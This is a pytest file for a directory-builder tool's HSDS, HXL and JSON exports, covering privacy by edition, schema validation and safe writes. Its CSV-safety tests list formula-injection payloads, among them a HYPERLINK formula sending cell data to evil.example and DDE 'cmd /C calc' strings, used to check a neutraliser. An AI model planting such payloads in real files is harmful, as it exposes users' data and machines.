"""Exports: HSDS 3.0 (validated by frictionless against the official schema), HXL CSV, JSON; the
edition's publishing rules in every byte; formula-safe CSV; atomic, reproducible writes."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from directory_builder.build.export import export_workbook
from directory_builder.columns import HxlTag
from directory_builder.export.csvsafe import neutralise
from directory_builder.export.hsds import known_files, official_descriptor, stable_id
from directory_builder.export.hxl import published_columns
from directory_builder.util.errors import InputError
from workbook_factory import SECRETS, make_secrets_workbook, make_workbook, service

REPO = Path(__file__).resolve().parents[1]
SHARED_HSDS = REPO.parent / "shared" / "hsds-3.0"
#: The same descriptor kept with the tests, for machines where the team's shared folder is not beside the
#: repository (tests/data/hsds-3.0/README.md); its hash is pinned below.
VENDORED_HSDS = REPO / "tests" / "data" / "hsds-3.0"
HSDS_DESCRIPTOR_SHA256 = "06d063ec1a22f8797da3ee9cd1e2a9e519fa813d6f3e93140bbdd7814d36984b"
HSDS = SHARED_HSDS if (SHARED_HSDS / "datapackage.json").is_file() else VENDORED_HSDS
EDITIONS = ("public", "practitioners")


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_secrets_workbook(tmp_path_factory.mktemp("wb") / "secrets.xlsx")


@pytest.fixture(scope="module")
def exports(workbook: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], Path]:
    """Every (format, edition) exported once for the module."""
    out = tmp_path_factory.mktemp("exports")
    paths: dict[tuple[str, str], Path] = {}
    for edition in EDITIONS:
        for fmt, name in (("hsds", f"hsds-{edition}"), ("hxl", f"{edition}.csv"), ("json", f"{edition}.json")):
            result = export_workbook(workbook, fmt, out / name, edition=edition)
            assert not result.errors
            assert result.count == (2 if edition == "public" else 3)
            paths[(fmt, edition)] = out / name
    return paths


def all_bytes(path: Path) -> bytes:
    if path.is_dir():
        return b"\n".join(p.read_bytes() for p in sorted(path.iterdir()))
    return path.read_bytes()


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def hsds_rows(folder: Path, table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((folder / table).read_text(encoding="utf-8"))))


# ------------------------------------------------------------------------------------------- privacy


@pytest.mark.parametrize("fmt", ["hsds", "hxl", "json"])
@pytest.mark.parametrize("edition", EDITIONS)
def test_no_export_leaks_what_the_edition_must_not_show(exports: dict[tuple[str, str], Path], fmt: str,
                                                        edition: str) -> None:
    data = all_bytes(exports[(fmt, edition)])
    digits = bytes(ch for ch in data if chr(ch).isdigit())
    never = ("notes", "verifier", "confidential_address", "unpublished_service", "closed_service")
    for key in never:
        assert SECRETS[key].encode() not in data, key
    assert SECRETS["confidential_lat"].encode() not in digits
    assert SECRETS["confidential_lon"].encode() not in digits
    practitioner_only = ("focal_point", "practitioners_service")
    if edition == "public":
        for key in practitioner_only:
            assert SECRETS[key].encode() not in data, key
        assert SECRETS["focal_phone_digits"].encode() not in digits
    else:
        for key in practitioner_only:
            assert SECRETS[key].encode() in data, key
        assert SECRETS["focal_phone_digits"].encode() in digits


def test_exports_are_reproducible_and_keep_their_ids(workbook: Path, exports: dict[tuple[str, str], Path],
                                                     tmp_path: Path) -> None:
    for (fmt, edition), first in exports.items():
        again = tmp_path / f"{fmt}-{edition}"
        export_workbook(workbook, fmt, again, edition=edition)
        assert all_bytes(again) == all_bytes(first), (fmt, edition)
    services = hsds_rows(exports[("hsds", "public")], "services.csv")
    assert {s["id"] for s in services} == {stable_id("service", "PUB-1"), stable_id("service", "CONF-1")}


# ------------------------------------------------------------------------------------------- HSDS


def validate_package(descriptor: dict, basepath: Path) -> list[str]:
    from frictionless import Package

    package = Package.from_descriptor(descriptor, basepath=str(basepath))
    report = package.validate()
    return [f"{task.name}: {err.message}" for task in report.tasks for err in task.errors]


@pytest.mark.parametrize("edition", EDITIONS)
def test_hsds_package_passes_frictionless(exports: dict[tuple[str, str], Path], edition: str) -> None:
    from frictionless import validate

    folder = exports[("hsds", edition)]
    report = validate(str(folder / "datapackage.json"))
    assert report.valid, report.flatten(["type", "message"])[:5]


@pytest.mark.parametrize("edition", EDITIONS)
def test_hsds_package_passes_the_shared_official_schema(exports: dict[tuple[str, str], Path], edition: str) -> None:
    shared = json.loads((HSDS / "datapackage.json").read_text(encoding="utf-8"))
    folder = exports[("hsds", edition)]
    assert validate_package(shared, folder) == []
    ours = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert {r["name"]: r["schema"] for r in ours["resources"]} == {r["name"]: r["schema"] for r in shared["resources"]}


def test_hsds_mapping(exports: dict[tuple[str, str], Path]) -> None:
    folder = exports[("hsds", "practitioners")]
    services = {s["name"]: s for s in hsds_rows(folder, "services.csv")}
    assert set(services) == {"Open shelter", "Hidden house", SECRETS["practitioners_service"]}
    open_shelter = services["Open shelter"]
    assert open_shelter["status"] == "active" and open_shelter["assured_date"] == "2026-01-15"
    assert open_shelter["url"] == "https://www.example.org"
    # Organizations: one per name, linked from every service.
    orgs = hsds_rows(folder, "organizations.csv")
    assert len(orgs) == 1 and {s["organization_id"] for s in services.values()} == {orgs[0]["id"]}
    # Locations: the open shelter's address is published; the confidential one has a location with no
    # address row and no coordinates.
    locations = {row["id"]: row for row in hsds_rows(folder, "locations.csv")}
    addresses = hsds_rows(folder, "addresses.csv")
    assert [a["address_1"] for a in addresses] == ["Jl. Merdeka 1, Jakarta Pusat 10110"]
    assert addresses[0]["postal_code"] == "10110" and addresses[0]["state_province"] == "DKI Jakarta"
    hidden = locations[stable_id("location", "CONF-1")]
    assert hidden["latitude"] == hidden["longitude"] == ""
    assert "Call first" in hidden["description"]
    assert not any(a["location_id"] == hidden["id"] for a in addresses)
    # Schedules: the simple pattern becomes a weekly rule; "open 24 hours" an every-day rule.
    schedules = hsds_rows(folder, "schedules.csv")
    by_service = {s["service_id"]: s for s in schedules}
    weekday = by_service[open_shelter["id"]]
    assert (weekday["freq"], weekday["byday"], weekday["opens_at"], weekday["closes_at"]) == \
        ("WEEKLY", "MO,TU,WE,TH,FR", "08:00:00", "16:00:00")
    assert by_service[services["Hidden house"]["id"]]["byday"] == "MO,TU,WE,TH,FR,SA,SU"
    # Service areas: the district, or every district for "All districts".
    areas = hsds_rows(folder, "service_areas.csv")
    prac_id = services[SECRETS["practitioners_service"]]["id"]
    assert sorted(a["name"] for a in areas if a["service_id"] == prac_id) == ["Jakarta Pusat", "Kabupaten Cianjur"]
    # Taxonomy: every category is a term; attributes link services to their categories.
    terms = {t["id"]: t["code"] for t in hsds_rows(folder, "taxonomy_terms.csv")}
    assert len(terms) == 16 and len(hsds_rows(folder, "taxonomies.csv")) == 1
    links = sorted(terms[a["taxonomy_term_id"]] for a in hsds_rows(folder, "attributes.csv")
                   if a["link_id"] == open_shelter["id"])
    assert links == ["legal", "shelter"]
    # Languages, phones and the focal point (practitioner edition only).
    assert sorted(lang["code"] for lang in hsds_rows(folder, "languages.csv")) == ["en", "id"]
    contacts = hsds_rows(folder, "contacts.csv")
    assert [c["name"] for c in contacts] == [SECRETS["focal_point"]]
    phones = hsds_rows(folder, "phones.csv")
    assert any(p["contact_id"] == contacts[0]["id"] for p in phones)
    assert any(p["number"] == "129" and p["service_id"] == prac_id for p in phones)


def test_public_hsds_has_no_contacts(exports: dict[tuple[str, str], Path]) -> None:
    assert hsds_rows(exports[("hsds", "public")], "contacts.csv") == []


def test_hsds_refuses_to_replace_a_folder_of_other_files(workbook: Path, tmp_path: Path) -> None:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.docx").write_bytes(b"precious")
    with pytest.raises(InputError):
        export_workbook(workbook, "hsds", out, edition="public")
    assert (out / "thesis.docx").read_bytes() == b"precious"
    # A previous export is replaced, and nothing is left beside it.
    again = tmp_path / "hsds"
    export_workbook(workbook, "hsds", again, edition="public")
    (again / "services.csv").write_bytes(b"stale")
    export_workbook(workbook, "hsds", again, edition="public")
    assert (again / "services.csv").read_bytes() != b"stale"
    assert {p.name for p in again.iterdir()} == set(known_files())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hsds", "mine"]


# ------------------------------------------------------------------------------------------- HXL


@pytest.mark.parametrize("edition", EDITIONS)
def test_hxl_shape(exports: dict[tuple[str, str], Path], edition: str) -> None:
    raw = exports[("hxl", edition)].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 correctly
    rows = read_csv(exports[("hxl", edition)])
    labels, tags, data = rows[0], rows[1], rows[2:]
    parsed = [HxlTag.parse(t) for t in tags]
    assert all(parsed), tags
    assert "#meta+notes+internal" not in tags and "#meta+verifier+internal" not in tags
    assert ("#contact+name+internal" in tags) == (edition == "practitioners")
    assert "#service+name+i_en" in tags and "#service+name+i_id" in tags
    assert labels[tags.index("#service+name+i_id")].startswith("Service name (id)")
    assert len(data) == (2 if edition == "public" else 3)
    ids = [row[tags.index("#meta+id")] for row in data]
    assert ids == (["PUB-1", "CONF-1"] if edition == "public" else ["PUB-1", "CONF-1", "PRAC-1"])
    names_id = [row[tags.index("#service+name+i_id")] for row in data]
    assert names_id[0] == "Rumah aman"
    conf = data[1]
    assert conf[tags.index("#loc+confidential")] == "yes"
    assert conf[tags.index("#loc+address")] == conf[tags.index("#geo+lat")] == ""


def test_hxl_publishes_the_columns_the_edition_may_show() -> None:
    assert {c.key for c in published_columns("public")} < {c.key for c in published_columns("practitioners")}
    assert not any(c.visibility == "never" for c in published_columns("practitioners"))


# ------------------------------------------------------------------------------------------- JSON


def test_json_shape(exports: dict[tuple[str, str], Path]) -> None:
    public = json.loads(exports[("json", "public")].read_text(encoding="utf-8"))
    assert public["edition"] == "public"
    assert [s["id"] for s in public["services"]] == ["PUB-1", "CONF-1"]
    first = public["services"][0]
    assert first["name"] == {"en": "Open shelter", "id": "Rumah aman"}
    assert first["categories"] == ["shelter", "legal"] and first["languages_spoken"] == ["id", "en"]
    assert first["phones"][0]["dial"] == "+622131900110"
    assert "focal_point" not in first and "notes" not in first and "verified_by" not in first
    conf = public["services"][1]
    assert conf["confidential"] is True and conf["address"] is None and conf["latitude"] is None
    practitioners = json.loads(exports[("json", "practitioners")].read_text(encoding="utf-8"))
    assert practitioners["services"][0]["focal_point"] == SECRETS["focal_point"]
    assert practitioners["services"][2]["district"] is None and practitioners["services"][2]["all_districts"]


# ------------------------------------------------------------------------------------------- CSV safety


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1"]


@pytest.mark.parametrize("value", [*HOSTILE, "\t=1+1", "\r=1+1", " =1+1"])
def test_neutralise_marks_formulas_as_text(value: str) -> None:
    assert neutralise(value).startswith("'")


@pytest.mark.parametrize("value", ["+62 21 3190 0110", "+62 21 31900110; +62 812-3456-7890", "-6.1754", "129",
                                   "Jl. Merdeka", "", "e=mc2"])
def test_neutralise_keeps_numbers_phones_and_text(value: str) -> None:
    assert neutralise(value) == value


def test_csv_exports_never_start_a_cell_with_a_formula(tmp_path: Path) -> None:
    wb = make_workbook(tmp_path / "hostile.xlsx", services=[
        service(id="H-1", organization=HOSTILE[1], service_name=HOSTILE[3], description=HOSTILE[0],
                how_to_get_help=HOSTILE[2], hours=HOSTILE[4], address="=1+1 Jl. 10110"),
    ])
    export_workbook(wb, "hxl", tmp_path / "x.csv", edition="public")
    export_workbook(wb, "hsds", tmp_path / "hsds", edition="public")
    files = [tmp_path / "x.csv", *sorted((tmp_path / "hsds").glob("*.csv"))]
    seen = set()
    for path in files:
        for row in read_csv(path):
            for cell in row:
                seen.add(cell.lstrip("'"))
                assert neutralise(cell) == cell, (path.name, cell)  # nothing left to neutralise
    assert HOSTILE[0] in seen and HOSTILE[1] in seen  # the text itself is kept, only marked


# ------------------------------------------------------------------------------------------- refusals


def test_workbook_with_errors_exports_nothing(tmp_path: Path) -> None:
    wb = make_workbook(tmp_path / "bad.xlsx", services=[service(cost="expensive")])
    result = export_workbook(wb, "json", tmp_path / "out.json", edition="public")
    assert result.errors and result.count == 0
    assert not (tmp_path / "out.json").exists()


def test_export_never_overwrites_the_workbook(tmp_path: Path) -> None:
    wb = make_workbook(tmp_path / "w.xlsx", services=[service()])
    before = wb.read_bytes()
    with pytest.raises(InputError):
        export_workbook(wb, "json", wb, edition="public")
    assert wb.read_bytes() == before


def test_official_descriptor_is_the_vendored_hsds_3() -> None:
    descriptor = official_descriptor()
    assert descriptor["version"] == "3.0.0" and len(descriptor["resources"]) == 21
    shared = json.loads((HSDS / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor == shared


def test_cli_export(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from directory_builder.cli import app

    good = make_workbook(tmp_path / "good.xlsx", services=[service()])
    bad = make_workbook(tmp_path / "bad.xlsx", services=[service(cost="expensive")])
    run = CliRunner().invoke(app, ["export", str(good), "--format", "hxl", "--out", str(tmp_path / "x.csv")])
    assert run.exit_code == 0 and (tmp_path / "x.csv").is_file()
    run = CliRunner().invoke(app, ["export", str(bad), "--format", "json", "--out", str(tmp_path / "y.json")])
    assert run.exit_code == 1 and not (tmp_path / "y.json").exists()
    run = CliRunner().invoke(app, ["export", str(tmp_path / "nope.xlsx"), "--format", "json", "--out",
                                   str(tmp_path / "z.json")])
    assert run.exit_code == 2


def test_the_test_copy_of_the_hsds_descriptor_is_the_official_one() -> None:
    import hashlib

    vendored = (VENDORED_HSDS / "datapackage.json").read_bytes()
    assert hashlib.sha256(vendored).hexdigest() == HSDS_DESCRIPTOR_SHA256
    if (SHARED_HSDS / "datapackage.json").is_file():
        assert vendored == (SHARED_HSDS / "datapackage.json").read_bytes()
